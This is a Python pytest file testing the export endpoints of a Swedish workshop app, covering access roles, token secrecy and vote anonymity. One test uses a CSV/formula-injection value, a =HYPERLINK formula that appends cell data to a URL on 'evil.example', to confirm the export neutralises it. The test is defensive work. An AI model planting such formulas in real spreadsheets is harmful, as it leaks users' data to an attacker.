"""Downloading the action list and the archive through the API: who may, and what arrives."""

import json
from io import BytesIO

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.services import items, uow
from tests.unit.test_export import seed


def test_facilitator_and_follow_up_download_the_action_list(
    client: TestClient, session, make_workshop
) -> None:
    w = make_workshop(participants=2, title="Tryggare Värnamo")
    seed(session, w)
    for headers in (w.facilitator, w.followup):
        response = client.get(f"/api/v1/workshops/{w.id}/export.xlsx", headers=headers)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        disposition = response.headers["content-disposition"]
        assert f'filename="kraftsamla-{w.id}-tryggare-varnamo.xlsx"' in disposition
        wb = load_workbook(BytesIO(response.content))
        assert wb["Åtgärder"]["C2"].value == "Fler fältassistenter kvällstid"


@pytest.mark.parametrize("path", ["export.xlsx", "export.json"])
def test_participants_and_the_board_may_not_download(
    client: TestClient, make_workshop, path: str
) -> None:
    w = make_workshop(participants=1)
    for headers in (w.participants[0].headers, w.board):
        assert client.get(f"/api/v1/workshops/{w.id}/{path}", headers=headers).status_code == 403
    assert client.get(f"/api/v1/workshops/{w.id}/{path}").status_code == 401
    other = make_workshop()
    response = client.get(f"/api/v1/workshops/{w.id}/{path}", headers=other.facilitator)
    assert response.status_code == 404


def test_the_json_archive_holds_the_whole_workshop_but_no_secrets(
    client: TestClient, session, make_workshop
) -> None:
    w = make_workshop(participants=2)
    ids = seed(session, w)
    response = client.get(f"/api/v1/workshops/{w.id}/export.json", headers=w.followup)
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    data = response.json()
    assert data["format"] == "kraftsamla-archive" and data["version"] == 4
    assert data["workshop"]["title"] == "Tryggare Värnamo"
    assert [a["name"] for a in data["focus_areas"]] == [
        "Narkotika",
        "Otrygghet",
        "Otillåten påverkan",
    ]
    notes = {i["id"]: i for i in data["items"]}
    assert notes[ids.hidden_action]["hidden"] is True  # kept, and marked
    assert notes[ids.merged_action]["merged_into"] == ids.action
    assert notes[ids.action]["owner_person"] == "Anna Berg"
    assert notes[ids.action]["due_date"] == "2027-03-31"
    assert {"from": ids.action, "to": ids.cause} in data["links"]
    assert notes[ids.action]["votes"] == 2 and notes[ids.cause]["votes"] == 2
    assert len(data["ratings"]) == 2
    assert len(data["participants"]) == 2
    text = response.text
    for secret in (w.facilitator_token, w.followup_token, w.board_token, "token_hash"):
        assert secret not in text


def test_the_json_archive_keeps_votes_anonymous_and_names_hidden(
    client: TestClient, session, make_workshop
) -> None:
    """Voting is anonymous: the archive counts dots per note, never whose they were, and it names
    people only when the facilitator chose to show names."""
    w = make_workshop(participants=2)
    ids = seed(session, w)
    url = f"/api/v1/workshops/{w.id}/export.json"
    data = client.get(url, headers=w.facilitator).json()
    votes = {i["id"]: i.get("votes") for i in data["items"]}
    assert votes[ids.action] == 2 and votes[ids.formula_action] == 1
    assert votes[ids.cause] == 2 and votes[ids.other_cause] == 0
    assert "votes" not in data or all("participant_id" not in v for v in data["votes"])
    assert all("participant_id" not in r for r in data["ratings"])
    assert sorted((r["item_id"], r["impact"], r["effort"]) for r in data["ratings"]) == [
        (ids.action, 4, 2),
        (ids.action, 5, 2),
    ]
    assert [p["display_name"] for p in data["participants"]] == [None, None]
    assert [p["organization"] for p in data["participants"]] == ["Kommunen", "Kommunen"]
    assert "Deltagare 1" not in json.dumps(data, ensure_ascii=False)

    uow.run(items.set_show_names, w.facilitator_principal, w.id, True)
    shown = client.get(url, headers=w.followup).json()
    assert [p["display_name"] for p in shown["participants"]] == ["Deltagare 1", "Deltagare 2"]
    assert "votes" not in shown or all("participant_id" not in v for v in shown["votes"])


def test_text_sent_through_the_api_with_a_control_character_stays_text(
    client: TestClient, make_workshop
) -> None:
    w = make_workshop(stage="situation", language="en")
    text = '\x01=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    response = client.post(
        f"/api/v1/workshops/{w.id}/items",
        json={"kind": "action", "focus_area_id": w.area(), "text": text},
        headers=w.facilitator,
    )
    assert response.status_code == 201, response.text
    content = client.get(f"/api/v1/workshops/{w.id}/export.xlsx", headers=w.facilitator).content
    wb = load_workbook(BytesIO(content))
    assert wb["Actions"]["C2"].data_type == "s" and wb["Actions"]["C2"].quotePrefix
    assert wb["Actions"]["C2"].value == text[1:]
    for ws in wb.worksheets:
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), ws.title
